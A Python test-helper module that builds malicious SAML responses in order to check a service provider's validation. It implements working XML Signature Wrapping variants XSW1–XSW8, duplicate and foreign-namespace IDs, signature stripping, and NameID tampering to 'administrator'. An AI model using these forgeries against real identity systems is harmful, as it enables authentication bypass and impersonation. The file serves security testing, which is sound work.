"""What an attacker does to an answer, with the tools attackers have; and what a mistaken provider would sign."""

import base64
import copy
import subprocess
import tempfile
from pathlib import Path

from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"


def opened(encoded):
    return etree.fromstring(base64.b64decode(encoded), etree.XMLParser(resolve_entities=False))


def closed(root, before=b""):
    return base64.b64encode(before + etree.tostring(root)).decode()


def assertion_in(root):
    return root.find(f".//{SAML}Assertion")


def signed(root, pair, what=f"{SAML}Assertion", method="rsa-sha256"):
    """The element `what` signed anew with a key, over whatever it holds now."""
    element = next(root.iter(what))
    old = element.find(f"{DS}Signature")
    if old is not None:
        element.remove(old)
    element.insert(1, etree.fromstring(_template(element.get("ID"), method)))
    with tempfile.TemporaryDirectory() as place:
        key, document, out = (Path(place) / name for name in ("key.pem", "document.xml", "out.xml"))
        key.write_text(pair.key)
        document.write_bytes(etree.tostring(root))
        namespace, _, name = what[1:].partition("}")
        subprocess.run(
            ["xmlsec1", "--sign", "--privkey-pem", str(key), "--id-attr:ID", f"{namespace}:{name}",
             "--node-id", element.get("ID"), "--output", str(out), str(document)],
            check=True, capture_output=True,
        )  # fmt: skip
        return etree.fromstring(out.read_bytes())


def _template(identifier, method):
    methods = {
        "rsa-sha256": ("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2001/04/xmlenc#sha256"),
        "rsa-sha1": ("http://www.w3.org/2000/09/xmldsig#rsa-sha1", "http://www.w3.org/2000/09/xmldsig#sha1"),
    }
    signature, digest = methods[method]
    return (
        f'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
        f'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        f'<ds:SignatureMethod Algorithm="{signature}"/><ds:Reference URI="#{identifier}"><ds:Transforms>'
        f'<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
        f'<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
        f'<ds:DigestMethod Algorithm="{digest}"/><ds:DigestValue/></ds:Reference></ds:SignedInfo>'
        f"<ds:SignatureValue/></ds:Signature>"
    )


def sealed(root, certificate):
    """The assertion encrypted for the holder of the certificate: anybody can do that."""
    assertion = assertion_in(root)
    wrapper = etree.Element(f"{SAML}EncryptedAssertion")
    root.replace(assertion, wrapper)
    template = (
        '<xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"'
        ' Type="http://www.w3.org/2001/04/xmlenc#Element">'
        '<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
        '<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey>'
        '<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/><ds:KeyInfo/>'
        "<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo>"
        "<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>"
    )
    with tempfile.TemporaryDirectory() as place:
        names = ("certificate.pem", "document.xml", "template.xml", "out.xml")
        pem, document, pattern, out = (Path(place) / name for name in names)
        pem.write_text(certificate)
        document.write_bytes(etree.tostring(assertion))  # with its namespaces, as it stands alone
        pattern.write_text(template)
        subprocess.run(
            ["xmlsec1", "--encrypt", "--pubkey-cert-pem", str(pem), "--session-key", "aes-256", "--xml-data",
             str(document), "--output", str(out), str(pattern)],
            check=True, capture_output=True,
        )  # fmt: skip
        wrapper.append(etree.fromstring(out.read_bytes()))
    return root


def evil_copy(assertion):
    """The same, as somebody else, without a signature."""
    evil = copy.deepcopy(assertion)
    evil.set("ID", "_evil")
    signature = evil.find(f"{DS}Signature")
    if signature is not None:
        evil.remove(signature)
    evil.find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    return evil


def xsw1(root):
    """The signed response inside the signature of a changed copy."""
    whole = copy.deepcopy(root)
    whole.remove(whole.find(f"{DS}Signature"))
    root.set("ID", "_evil")
    assertion_in(root).find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    root.find(f"{DS}Signature").append(whole)


def xsw2(root):
    """The same, with the signature beside the original."""
    whole = copy.deepcopy(root)
    whole.remove(whole.find(f"{DS}Signature"))
    root.set("ID", "_evil")
    assertion_in(root).find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    root.find(f"{DS}Signature").addprevious(whole)


def xsw3(root):
    assertion = assertion_in(root)
    assertion.addprevious(evil_copy(assertion))


def xsw4(root):
    assertion = assertion_in(root)
    evil = evil_copy(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)


def xsw5(root):
    assertion = assertion_in(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    root.append(original)


def xsw6(root):
    assertion = assertion_in(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    assertion.find(f"{DS}Signature").append(original)


def xsw7(root):
    assertion = assertion_in(root)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(evil_copy(assertion))
    assertion.addprevious(extensions)


def xsw8(root):
    assertion = assertion_in(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = "administrator"
    etree.SubElement(assertion.find(f"{DS}Signature"), f"{DS}Object").append(original)


def duplicate_id(root):
    assertion = assertion_in(root)
    evil = evil_copy(assertion)
    evil.set("ID", assertion.get("ID"))
    root.replace(assertion, etree.SubElement(root, f"{SAMLP}Extensions"))
    root.find(f"{SAMLP}Extensions").append(assertion)
    root.append(evil)


def stripped(root):
    for one in list(root.iter(f"{DS}Signature")):
        one.getparent().remove(one)


def tampered(root):
    assertion_in(root).find(f"{SAML}Subject/{SAML}NameID").text = "administrator"


def tampered_attribute(root):
    root.find(f".//{SAML}AttributeValue").text = "administrator"


def other_namespace_id(root):
    """An identifier that only some readers see."""
    evil = evil_copy(assertion_in(root))
    evil.attrib.pop("ID")
    evil.set("{urn:x}ID", "_evil")
    root.append(evil)


def second_reference(root):
    info = root.find(f".//{DS}SignedInfo")
    info.append(copy.deepcopy(info.find(f"{DS}Reference")))


def no_enveloped_transform(root):
    for one in root.iter(f"{DS}Transform"):
        if one.get("Algorithm").endswith("enveloped-signature"):
            one.set("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")


def status_refused(root):
    root.find(f"{SAMLP}Status/{SAMLP}StatusCode").set("Value", "urn:oasis:names:tc:SAML:2.0:status:Requester")


def destination_elsewhere(root):
    root.set("Destination", "https://elsewhere.example/acs")


def answer_to_another(root):
    root.set("InResponseTo", "_another")
